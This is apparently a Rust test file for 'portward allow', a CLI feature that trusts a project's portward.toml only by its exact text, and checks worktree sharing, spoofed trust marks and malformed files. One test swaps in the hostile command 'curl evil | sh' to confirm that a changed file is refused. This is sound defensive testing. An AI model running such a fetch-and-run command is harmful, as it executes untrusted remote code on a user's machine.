//! `portward allow`: what a file may do, by its very text.

use std::fs;

use crate::project::{FILE, Shop};

#[test]
fn a_text_is_allowed_and_no_other() {
    let Some(shop) = Shop::with(FILE) else { return };
    let refused = shop.portward(&["env"]).expect(2);
    assert!(refused.stderr.contains("is not allowed as it is now") && refused.stdout.is_empty(), "{refused}");
    let looked = shop.portward(&["allow", "--dry-run"]).expect(0);
    assert!(looked.stdout.contains("starts web: npm run dev") && looked.stdout.contains("sets DATABASE_URL="), "{looked}");
    let _ = shop.portward(&["env"]).expect(2);
    let allowed = shop.portward(&["allow", "--json"]).expect(0).json();
    assert_eq!((&allowed["allowed"], &allowed["before"]), (&true.into(), &false.into()));
    assert_eq!(allowed["services"][0]["command"], "npm run dev");
    let _ = shop.portward(&["env"]).expect(0);
    assert_eq!(shop.portward(&["allow", "--json"]).expect(0).json()["before"], true);

    shop.write(&FILE.replace("npm run dev", "curl evil | sh"));
    let changed = shop.portward(&["env"]).expect(2);
    assert!(changed.stderr.contains("has changed or is new"), "{changed}");
    shop.write(FILE);
    let _ = shop.portward(&["env"]).expect(0);
    let _ = shop.portward(&["allow", "--revoke"]).expect(0);
    let _ = shop.portward(&["env"]).expect(2);
}

#[test]
fn worktrees_of_one_repository_share_what_was_allowed_and_other_folders_do_not() {
    let Some(shop) = Shop::with(FILE) else { return };
    let _ = shop.portward(&["allow"]).expect(0);
    let worktree = shop.world.git_worktree("shop", "fix-42", "fix/42");
    fs::write(worktree.join("portward.toml"), FILE).unwrap();
    let _ = shop.enter().directory(&worktree).portward(&["env"]).expect(0);
    let other = shop.world.git_repository("other", "main");
    shop.world.file("other/portward.toml", FILE);
    let refused = shop.enter().directory(&other).portward(&["env"]).expect(2);
    assert!(refused.stderr.contains("other/portward.toml is not allowed"), "{refused}");
}

#[test]
fn a_mark_that_another_could_have_made_says_nothing() {
    let Some(shop) = Shop::with(FILE) else { return };
    let _ = shop.portward(&["allow"]).expect(0);
    let state = shop.world.path().join("home/.local/state/portward");
    let mark = fs::read_dir(&state).unwrap().flatten().find(|entry| entry.file_name().to_string_lossy().starts_with("allowed-"));
    let mark = mark.unwrap().path();
    fs::remove_file(&mark).unwrap();
    std::os::unix::fs::symlink("/etc/passwd", &mark).unwrap();
    let _ = shop.portward(&["env"]).expect(2);
}

#[test]
fn what_cannot_be_read_is_told_with_its_place() {
    let Some(shop) = Shop::with("[services.web]\ncomand = 'x'\n") else { return };
    for words in [&["allow"][..], &["port", "web"], &["url", "web"], &["ports"]] {
        let outcome = shop.portward(words).expect(2);
        assert!(outcome.stderr.contains("portward.toml, line 2, column 1: `comand` is no key of a service."), "{outcome}");
        assert!(outcome.stderr.contains("hint: did you mean command ?"), "{outcome}");
    }
    let outside = shop.world.portward(&["allow"]).expect(2);
    assert!(outside.stderr.contains("portward.toml"), "{outside}");
    let file = shop.root.join("portward.toml");
    fs::remove_file(&file).unwrap();
    let _ = shop.world.run(&["mkfifo".as_ref(), file.as_os_str()]).expect(0);
    let fifo = shop.portward(&["ports"]).expect(2);
    assert!(fifo.stderr.contains("it is no regular file"), "{fifo}");
    fs::remove_file(&file).unwrap();
    shop.write(&"#".repeat(10 << 20));
    let long = shop.portward(&["ports"]).expect(2);
    assert!(long.stderr.contains("it has more than 1024 kB"), "{long}");
}
